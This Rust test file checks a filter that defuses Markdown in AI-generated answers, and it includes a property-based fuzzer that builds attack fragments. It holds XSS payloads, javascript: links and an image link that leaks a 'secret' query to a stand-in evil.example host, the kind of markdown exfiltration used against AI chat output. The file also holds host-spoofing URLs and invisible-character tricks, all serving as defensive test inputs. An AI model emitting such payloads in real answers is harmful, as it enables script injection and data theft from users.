//! Tests of the filter of answers, with a Markdown parser as the judge.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use super::markup::MarkupFilter;

fn hosts() -> Vec<String> {
    vec!["docs.example".to_owned()]
}

/// The text filtered when it comes in `pieces`.
fn filtered<'p>(pieces: impl IntoIterator<Item = &'p str>) -> String {
    let hosts = hosts();
    let mut filter = MarkupFilter::new(&hosts);
    let mut out: String = pieces.into_iter().map(|piece| filter.push(piece)).collect();
    out.push_str(&filter.finish());
    out
}

fn is_allowed(address: &str) -> bool {
    ["https://docs.example", "http://docs.example"].iter().any(|start| {
        address
            .strip_prefix(start)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(['/', '?', '#', ':']))
    })
}

/// Everything in rendered `markdown` that a browser would fetch, follow or run, and addresses that clients make links.
fn dangers(markdown: &str, options: Options) -> Vec<String> {
    let mut found = Vec::new();
    let (mut prose, mut is_code) = (String::new(), false);
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {html}")),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. })
                if !is_allowed(&dest_url) =>
            {
                found.push(format!("link {dest_url}"));
            }
            Event::Start(Tag::CodeBlock(_)) => is_code = true,
            Event::End(TagEnd::CodeBlock) => is_code = false,
            Event::Text(text) if !is_code => prose.push_str(&text),
            _ => prose.push(' '),
        }
    }
    let addresses = prose.split(char::is_whitespace).filter(|word| word.contains("://"));
    found.extend(
        addresses.filter(|word| !word.contains("://docs.example")).map(|word| format!("address {word}")),
    );
    found
}

#[test]
fn safe_markdown_stays_as_it_is() {
    for text in [
        "Backups are kept for 30 days [1]. See [2, 3] and [4][5].",
        "| a | b |\n|---|---|\n| 1 < 2 | `x` |\n",
        "Run `rag doctor <name>` first.\n\n```html\n<script src=\"https://evil.example\"></script>\n```\nDone [1].",
        "~~~\n<b>\n~~~\n",
        "- [ ] to do\n- [x] done\n",
        "[the page](https://docs.example/a_b) and https://docs.example/x?y=1#z.",
        "![plan](https://www.docs.example/plan.png)",
        "保存期間は30日です[1]。",
        "C:\\Users\\anna and a \\<tag>",
        "Is 3 < 4? Yes! Mail anna@firm.example.",
    ] {
        assert_eq!(filtered([text]), text);
    }
}

#[test]
fn foreign_addresses_and_tags_become_text() {
    for (text, expected) in [
        ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
        ("<img src=x onerror=y>", "\\<img src=x onerror=y>"),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("[click](https://evil.example/a)", "click (`https://evil.example/a`)"),
        ("[click](javascript:alert(1))", "click (`javascript:alert(1`))"),
        ("[a](/v1/me)", "a (`/v1/me`)"),
        ("see https://evil.example/a, please", "see `https://evil.example/a`, please"),
        ("<https://evil.example>", "\\<`https://evil.example`>"),
        ("www.evil.example", "`www.evil.example`"),
        ("[x]: https://evil.example", "\\[x]: `https://evil.example`"),
        ("[x\ny](https://evil.example)", "\\[x\ny](`https://evil.example`)"),
        ("[![i](https://evil.example/i.png)](https://evil.example)", "\\[i](`https://evil.example`)"),
        ("https://docs.example@evil.example/", "`https://docs.example@evil.example/`"),
        ("https://evil.example&sol;.docs.example/", "`https://evil.example&sol;.docs.example/`"),
        ("https://notdocs.example/", "`https://notdocs.example/`"),
        ("a ` b\n`<img src=x>`", "a ` b\n`\\<img src=x>`"),
        ("a ` https://evil.example", "a ` ``https://evil.example``"),
        ("| `a | <img src=x>` |", "| `a | \\<img src=x>` |"),
        ("> ```\n<img src=x>\n", "> ```\n\\<img src=x>\n"),
        ("```a`b\n<img src=x>", "```a`b\n\\<img src=x>"),
        ("https\\://evil.example", "https\\\\ `://evil.example`"),
        ("https&#58;//evil.example", "https\\&#58;//evil.example"),
        ("admin\u{202e}txt.exe\u{e0041}", "admintxt.exe"),
    ] {
        assert_eq!(filtered([text]), expected);
    }
}

/// Fragments of which attacks on Markdown are made.
fn fragment() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "`",
        "``",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "    ",
        "  ",
        " ",
        "\t",
        "> ",
        "- ",
        "1. ",
        "# ",
        "|",
        "\\",
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        ":",
        "a",
        "[x]",
        "[x]:",
        "[1]",
        "![",
        "](",
        "https://evil.example",
        "https://docs.example/a",
        "www.evil.example",
        "//",
        "://",
        "http",
        "<img src=x>",
        "<!--",
        "-->",
        "<a href=\"",
        "\"",
        "'",
        "&lt;",
        "&#58;",
        "*",
        "_",
        "javascript:x",
        "|---|\n",
        "a | b\n---|---\n",
        "é",
        "。",
        "\r\n",
        "=",
        "@evil.example",
        ".evil.example",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_000))]

    #[test]
    fn nothing_dangerous_is_rendered(fragments in prop::collection::vec(fragment(), 0..24)) {
        let text = fragments.concat();
        let safe = filtered([text.as_str()]);
        for options in [Options::empty(), Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS] {
            let found = dangers(&safe, options);
            prop_assert!(found.is_empty(), "{found:?} in {safe:?} from {text:?}");
        }
    }

    #[test]
    fn the_pieces_do_not_matter(fragments in prop::collection::vec(fragment(), 0..24), split in 1_usize..5) {
        let text = fragments.concat();
        let letters: Vec<char> = text.chars().collect();
        let pieces: Vec<String> = letters.chunks(split).map(|piece| piece.iter().collect()).collect();
        prop_assert_eq!(filtered(pieces.iter().map(String::as_str)), filtered([text.as_str()]));
    }
}
